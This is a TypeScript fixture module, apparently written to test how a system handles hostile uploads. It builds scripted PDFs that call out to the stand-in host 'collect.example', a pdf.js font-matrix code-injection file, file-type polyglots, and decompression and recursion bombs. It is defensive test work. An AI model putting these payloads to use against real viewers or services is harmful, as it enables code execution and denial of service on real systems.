import { deflateSync } from "node:zlib";
import { pngFile } from "./files.ts";

/** Files that try to do more than to be looked at. Whatever they reach for is named like this. */
export const outside = "https://collect.example";

const run = `fetch('${outside}/ran');window.owned=1;top.owned=1;alert(document.domain)`;

/** A PDF of these objects, the first of which is its catalogue. @param after behind the header */
export function pdfOf(objects: readonly (string | Buffer)[], after = ""): Buffer {
  const parts: Buffer[] = [Buffer.from(`%PDF-1.7\n${after}`, "latin1")];
  let length = parts[0]?.length ?? 0;
  const offsets = objects.map((object, index) => {
    const offset = length;
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object as string, "latin1"),
      Buffer.from("\nendobj\n"),
    ]);
    parts.push(part);
    length += part.length;
    return offset;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const stream = (dictionary: string, content: Buffer | string): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    Buffer.from(content as string, "latin1"),
    Buffer.from("\nendstream"),
  ]);

interface OnePage {
  catalogue?: string;
  box?: string;
  page?: string;
  resources?: string;
  content?: string;
  /** From number 6 on. */
  more?: readonly (string | Buffer)[];
  after?: string;
}

/** A PDF of one page that says "Marksheet". */
export function onePage(options: OnePage = {}): Buffer {
  const { catalogue = "", box = "0 0 612 792", page = "", resources = "", more = [] } = options;
  const content = `BT /F1 24 Tf 72 720 Td (Marksheet) Tj ET ${options.content ?? ""}`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R ${page} /Resources << /Font << /F1 5 0 R >> ${resources} >> >>`,
    stream("", content),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...more,
  ];
  return pdfOf(objects, options.after);
}

const javaScript = `<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${outside}'\\); app.launchURL\\('${outside}', true\\)) >>`;
const border = "/Rect [0 0 612 792] /Border [0 0 0]";

const scriptedPdf = onePage({
  catalogue: `/OpenAction ${javaScript} /Names << /JavaScript << /Names [(a) ${javaScript}] >> >> /AcroForm << /Fields [7 0 R] /NeedAppearances true >>`,
  page: `/AA << /O ${javaScript} >> /Annots [6 0 R 7 0 R 8 0 R]`,
  more: [
    `<< /Type /Annot /Subtype /Link ${border} /A << /S /URI /URI (${outside}/link) >> /AA << /E ${javaScript} >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) ${border} /AA << /K ${javaScript} /F ${javaScript} >> >>`,
    `<< /Type /Annot /Subtype /Link ${border} /A << /S /Launch /F (${outside}/run.exe) /NewWindow true >> >>`,
  ],
});

const outsideFiles = onePage({
  catalogue: "/Names << /EmbeddedFiles << /Names [(run.html) 7 0 R] >> >>",
  page: `/Annots [9 0 R]`,
  resources: "/XObject << /X 6 0 R >>",
  content: "/X Do",
  more: [
    stream(
      `/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${outside}/image) >>`,
      "",
    ),
    "<< /Type /Filespec /F (run.html) /EF << /F 8 0 R >> >>",
    stream("/Type /EmbeddedFile", `<script>${run}</script>`),
    `<< /Type /Annot /Subtype /FileAttachment ${border} /FS 7 0 R >>`,
  ],
});

/** Once ran code in pdf.js: numbers of a font's matrix were written into a function. */
const scriptInFont = onePage({
  resources: "/Font << /F2 6 0 R >>",
  content: "BT /F2 24 Tf 72 600 Td (a) Tj ET",
  more: [
    `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontDescriptor 7 0 R /FirstChar 97 /LastChar 97 /Widths [500] /FontMatrix [1 2 3 4 5 (0\\); ${run}//)] >>`,
    "<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 >>",
  ],
});

const web = `<!doctype html><script>${run}</script><img src="${outside}/image" onerror="${run}">`;

/** By what they are; `opens` where something of it can be shown at all. */
export const hostileFiles: Readonly<
  Record<string, { content: Buffer; mediaType: string; opens: boolean }>
> = {
  "a PDF with scripts, links and programs to start": {
    content: scriptedPdf,
    mediaType: "application/pdf",
    opens: true,
  },
  "a PDF with files inside and outside": {
    content: outsideFiles,
    mediaType: "application/pdf",
    opens: true,
  },
  "a PDF with a script in a font": {
    content: scriptInFont,
    mediaType: "application/pdf",
    opens: true,
  },
  "a PDF that is a web page too": {
    content: onePage({ after: `${web}\n` }),
    mediaType: "application/pdf",
    opens: true,
  },
  "a web page that says it is a PDF": {
    content: Buffer.from(`%PDF-1.4\n${web}`),
    mediaType: "application/pdf",
    opens: false,
  },
  "a drawing with script that says it is a PNG": {
    content: Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${outside}/i"/></svg>`,
    ),
    mediaType: "image/png",
    opens: false,
  },
  "a JPEG that is a script too": {
    content: Buffer.concat([Buffer.from("ffd8ffe02f2a", "hex"), Buffer.from(`*/;${run}//`)]),
    mediaType: "image/jpeg",
    opens: false,
  },
  "a PDF whose page is a million metres wide": {
    content: onePage({ box: "0 0 3000000000 2000000000" }),
    mediaType: "application/pdf",
    opens: true,
  },
  "a PDF with a page without width": {
    content: onePage({ box: "0 0 0 0" }),
    mediaType: "application/pdf",
    opens: true,
  },
  "a PDF that unpacks to four hundred times its size": {
    content: onePage({
      resources: "/XObject << /X 6 0 R >>",
      content: "612 0 0 792 0 0 cm /X Do",
      more: [
        stream(
          "/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
          deflateSync(Buffer.alloc(80_000_000)),
        ),
      ],
    }),
    mediaType: "application/pdf",
    opens: true,
  },
  "a PDF that draws itself within itself": {
    content: onePage({
      resources: "/XObject << /X 6 0 R >>",
      content: "/X Do",
      more: [
        stream(
          "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
          "/X Do /X Do",
        ),
      ],
    }),
    mediaType: "application/pdf",
    opens: true,
  },
  "a PNG that unpacks to gigabytes": {
    content: pngFile({ width: 60_000, height: 60_000 }),
    mediaType: "image/png",
    opens: false,
  },
  "a JPEG that unpacks to gigabytes": {
    content: Buffer.from("ffd8ffc0000b08ffffffff01011100ffda0008010100003f00ffd9", "hex"),
    mediaType: "image/jpeg",
    opens: false,
  },
};
